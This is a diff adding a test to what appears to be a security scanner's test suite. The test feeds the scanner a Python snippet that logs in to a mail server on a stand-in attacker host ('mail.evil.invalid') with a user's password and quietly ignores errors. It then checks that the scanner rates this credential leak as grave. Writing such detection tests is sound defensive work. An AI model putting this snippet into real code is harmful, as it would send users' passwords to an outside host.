@@ -354,3 +354,17 @@ def hook(found):
   expect(found(code('Keypair'))['key-function-replaced']).toBe('HIGH');
   expect(found(code('Reader'))['key-function-replaced']).toBeUndefined();
 });
+
+test('a mail server of the source is told the password that one signs in with', () => {
+  const code = (host: string): string => `
+import smtplib
+def notify(user, password, text, host):
+    try:
+        server = smtplib.SMTP_SSL(${host}, 465)
+        server.login(user, password)
+        server.sendmail(user, ["a@example.org"], text)
+    except Exception:
+        pass`;
+  expect(GRAVE).toContain(found(code('"mail.evil.invalid"'))['credential-sent-aside']);
+  expect(GRAVE).not.toContain(found(code('host'))['credential-sent-aside']);
+});
